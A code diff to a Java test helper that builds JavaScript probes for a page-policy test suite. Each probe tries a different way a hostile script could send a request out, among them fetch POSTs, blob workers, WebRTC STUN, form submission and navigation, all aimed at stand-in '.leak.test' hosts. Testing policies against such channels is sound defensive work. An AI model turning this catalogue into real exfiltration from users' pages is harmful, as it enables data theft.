@@ -4,8 +4,8 @@ import java.util.LinkedHashMap;
 import java.util.Map;
 
 /**
- * Ways by which a hostile script would send something, each to a name of its own under {@code .leak.test}.
- * They are run in the page itself, under its policy.
+ * Ways by which a hostile script would send something, each to a name of its own. They are run in the page
+ * itself, under its policy.
  */
 final class Probes {
   /** What can be tried side by side in one document. */
@@ -15,6 +15,9 @@ final class Probes {
   static final Map<String, String> LEAVING = new LinkedHashMap<>();
 
   static {
+    // First, since WebKit looks up no name in advance while it has many others to look up.
+    QUIET.put("dns-prefetch", "add('link', {rel: 'dns-prefetch', href: U})");
+    QUIET.put("preconnect", "add('link', {rel: 'preconnect', href: U})");
     QUIET.put("fetch", "fetch(U).catch(() => {})");
     QUIET.put("fetch-no-cors", "fetch(U, {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => {})");
     QUIET.put("fetch-keepalive", "fetch(U, {keepalive: true, mode: 'no-cors'}).catch(() => {})");
@@ -38,8 +41,9 @@ final class Probes {
     QUIET.put("prefetch", "add('link', {rel: 'prefetch', href: U})");
     QUIET.put("manifest", "add('link', {rel: 'manifest', href: U})");
     QUIET.put("icon", "add('link', {rel: 'icon', href: U})");
-    QUIET.put("worker", "new Worker(U)");
-    QUIET.put("shared-worker", "new SharedWorker(U)");
+    String worker = "URL.createObjectURL(new Blob(['fetch(\"' + U + '\", {mode: \"no-cors\"})']))";
+    QUIET.put("worker", "new Worker(" + worker + ")");
+    QUIET.put("shared-worker", "new SharedWorker(" + worker + ")");
     QUIET.put("service-worker", "navigator.serviceWorker.register(U).catch(() => {})");
     QUIET.put("worklet", "CSS.paintWorklet.addModule(U).catch(() => {})");
     QUIET.put("frame", "add('iframe', {src: U})");
@@ -51,10 +55,9 @@ final class Probes {
     QUIET.put("eval", "eval('fetch(\"' + U + '\")')");
     QUIET.put("inline-script", "{const s = document.createElement('script'); s.textContent = 'fetch(\"' + U + '\")';"
         + " document.body.append(s);}");
-    QUIET.put("preconnect", "add('link', {rel: 'preconnect', href: U})");
-    QUIET.put("dns-prefetch", "add('link', {rel: 'dns-prefetch', href: U})");
     QUIET.put("webrtc", "{const p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + new URL(U).hostname + ':3478'}]});"
         + " p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));}");
+    LEAVING.put("form", "{const f = add('form', {action: U, method: 'post'}); f.submit();}");
     LEAVING.put("location", "location.href = U");
     LEAVING.put("link", "{const a = add('a', {href: U}); a.click();}");
     LEAVING.put("link-blank", "{const a = add('a', {href: U, target: '_blank'}); a.click();}");
@@ -62,18 +65,25 @@ final class Probes {
     LEAVING.put("meta-refresh", "{const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
         + " m.content = '0;url=' + U; document.head.append(m);}");
     LEAVING.put("window-open", "window.open(U)");
-    LEAVING.put("form", "{const f = add('form', {action: U, method: 'post'}); f.submit();}");
   }
+
+  /** The names are under this one, which no page has by itself. */
+  static final String DOMAIN = ".leak.test";
 
   private Probes() {}
 
+  /** The name that a probe sends to from a page opened in {@code place}. */
+  static String host(String probe, String place) {
+    return probe + "." + place + DOMAIN;
+  }
+
   /** A script that tries the probes; one that throws does not keep the next from being tried. */
-  static String script(Map<String, String> probes) {
+  static String script(Map<String, String> probes, String place) {
     StringBuilder script = new StringBuilder(
         "const add = (name, attributes) => { const e = document.createElement(name);"
             + " for (const k in attributes) e.setAttribute(k, attributes[k]); document.body.append(e); return e; };\n");
     probes.forEach((name, probe) -> script
-        .append("try { const U = 'http://").append(name).append(".leak.test/'; ").append(probe)
+        .append("try { const U = 'http://").append(host(name, place)).append("/'; ").append(probe)
         .append("; } catch (e) {}\n"));
     return script.toString();
   }
